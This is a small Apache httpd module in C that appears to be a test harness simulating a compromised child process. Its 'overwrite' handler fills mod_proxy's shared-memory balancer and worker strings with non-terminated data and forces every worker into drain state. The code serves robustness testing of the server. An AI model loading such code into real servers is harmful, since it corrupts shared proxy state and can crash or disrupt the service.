/* A child in an attacker's hands: the handler `overwrite` leaves no NUL in the texts that mod_proxy
 * shares between processes.
 */
#include "httpd.h"
#include "http_config.h"
#include "mod_proxy.h"

extern module AP_MODULE_DECLARE_DATA proxy_module;
module AP_MODULE_DECLARE_DATA overwrite_module;

#define FILL(array) memset(array, 'x', sizeof(array))

static int handler(request_rec *r)
{
    proxy_server_conf *conf = ap_get_module_config(r->server->module_config, &proxy_module);
    proxy_balancer *balancer = (proxy_balancer *)conf->balancers->elts;
    proxy_worker **worker = (proxy_worker **)balancer->workers->elts;
    int i;

    if (!r->handler || strcmp(r->handler, "overwrite")) {
        return DECLINED;
    }
    FILL(balancer->s->lbpname);
    for (i = 0; i < balancer->workers->nelts; i++) {
        FILL(worker[i]->s->route);
        FILL(worker[i]->s->redirect);
        FILL(worker[i]->s->hostname_ex);
        FILL(worker[i]->s->name_ex);
        worker[i]->s->status |= PROXY_WORKER_DRAIN;
    }
    return OK;
}

static void register_hooks(apr_pool_t *pool)
{
    ap_hook_handler(handler, NULL, NULL, APR_HOOK_FIRST);
}

module AP_MODULE_DECLARE_DATA overwrite_module = {
    STANDARD20_MODULE_STUFF,
    NULL, NULL, NULL, NULL, NULL, register_hooks, 0
};
